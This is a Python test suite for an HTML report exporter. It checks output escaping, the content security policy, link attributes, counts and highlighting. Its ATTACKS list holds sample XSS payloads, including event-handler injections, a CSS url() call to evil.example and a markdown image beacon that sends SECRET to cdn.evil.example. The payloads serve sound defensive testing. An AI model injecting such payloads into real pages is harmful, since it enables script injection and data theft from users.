"""The HTML report: self-contained, and no text of an answer or a source can be anything but text."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.exporters import html
from core.exporters._report import read
from core.models import Evidence, Label, Qualifier
from dashboard.widgets import look
from tests.core.judged import judged
from tests.core.rows import claim_row, span_row

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    'Tax is 5" onfocus=alert(1) autofocus x="',
    "</title></style><style>*{background:url(//evil.example)}",
    "![chart](https://cdn.evil.example/1x1.gif?d=SECRET)",
    "<!-- --><svg onload=alert(1)>",
    "&lt;b&gt; &#60;script&#62;",
    "</bdi></p></article><h1>Supported",
]


class Page(HTMLParser):
    """What a browser would see: elements with their attributes, and the text."""

    def __init__(self, source: str) -> None:
        """Read a page."""
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """Note a text."""
        self.text += data

    def names(self) -> set[str]:
        """Which elements there are."""
        return {tag for tag, _ in self.elements}


def page_with(text: str) -> Page:
    """A page on which a text stands wherever a text may stand."""
    row = claim_row(
        request_id=text,
        claim_id=text,
        claim=text,
        verifier=text,
        protocol=text,
        notes=(text,),
        qualifiers=(Qualifier(kind="number", claim=text, evidence=text, agrees=False),),
        spans=(span_row(cite=text, reason=text, excerpt=text, start=None, end=None),),
    )
    evidence = Evidence(id=text, text=text, title=text, uri=text)
    return Page(html.page(read([judged(row, query=text, evidence=(evidence,))])))


PLAIN = page_with("Plain words")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_stays_a_text(attack: str) -> None:
    """It is shown to the letter, and makes no element and no attribute that plain words would not make."""
    page = page_with(attack)

    assert attack in page.text
    assert page.names() <= PLAIN.names() | {"mark"}
    assert {name for _, attributes in page.elements for name in attributes} <= {
        name for _, attributes in PLAIN.elements for name in attributes
    }


@given(st.text(alphabet=st.one_of(st.sampled_from("<>&\"'/= !-"), st.characters()), max_size=60))
def test_no_text_makes_an_element(text: str) -> None:
    """Whatever the characters are."""
    assert page_with(text).names() <= PLAIN.names() | {"mark", "ul", "li", "blockquote"}


def test_nothing_runs_and_nothing_is_fetched() -> None:
    """No element loads or runs anything, and the page's policy allows only its own style, by its hash."""
    source = html.page(read([judged()]))
    page = Page(source)
    (policy,) = [a["content"] for tag, a in page.elements if tag == "meta" and "http-equiv" in a]
    (style,) = re.findall(r"<style>(.*?)</style>", source, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()

    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert not page.names() & {"script", "link", "img", "iframe", "object", "embed", "form", "base"}
    assert "url(" not in style
    assert "@import" not in style
    assert all(not name.startswith("on") and name != "style" for _, a in page.elements for name in a)


def test_a_link_shows_its_host_and_tells_nobody() -> None:
    """It opens only on a click, without opener and referrer; any other address is no link."""
    page = Page(html.page(read([judged()])))

    assert [a for tag, a in page.elements if tag == "a"] == [
        {"href": "https://gate.example/rules", "target": "_blank", "rel": "noopener noreferrer"}
    ]
    assert "gate.example" in page.text
    assert not [tag for tag, _ in page_with("javascript:alert(1)").elements if tag == "a"]


def test_the_report_names_judge_and_counts(tmp_path: Path) -> None:
    """Verifier, protocol, attempted, judged, excluded and bounds stand beside the rate."""
    out = tmp_path / "report.html"
    rows = [claim_row(), claim_row(label=None), claim_row(label=Label.UNCITED, cites=(), spans=())]

    assert html.write([judged(row) for row in rows], out) == 3
    text = Page(out.read_text("utf-8")).text
    for words in ("verifier lexical", "lexical@1+00000000", "3 attempted, 2 judged, 1 excluded", "33.3% to 66.7%"):
        assert words in text
    assert "1 of 2 judged claims" in text


def test_what_differs_is_marked_on_both_sides() -> None:
    """The first whole-word place in claim and passage; "30" in "1300" is none."""
    text = "Of 1300 gates 15 are open."
    row = claim_row(
        claim="Of 1300 gates 30 are open.",
        qualifiers=(Qualifier(kind="number", claim="30", evidence="15", agrees=False),),
        spans=(span_row(excerpt=text, start=0, end=len(text)),),
    )
    source = html.page(read([judged(row, evidence=(Evidence(id="C1", text=text),))]))

    assert "Of 1300 gates <mark>30</mark> are open." in source
    assert "Of 1300 gates <mark>15</mark> are open." in source


def test_right_to_left_text_is_shown_in_logical_order() -> None:
    """The direction is set from the text, and the text is not touched."""
    claim = "النسبة 45% في report 2021 السنوي"

    assert f'<h3 dir="auto">{claim}</h3>' in html.page(read([judged(claim_row(claim=claim))]))


def test_the_colours_are_those_of_the_desk() -> None:
    """A label looks the same on the page and in a report, in light and in dark."""
    style = Path(html.__file__).with_name("_report.css").read_text("utf-8")
    looks = [*look.LABELS.items(), ("none", look.NO_LABEL)]

    for label, one in looks:
        assert f".{label} {{ --hue: light-dark({one.light}, {one.dark}); }}" in style
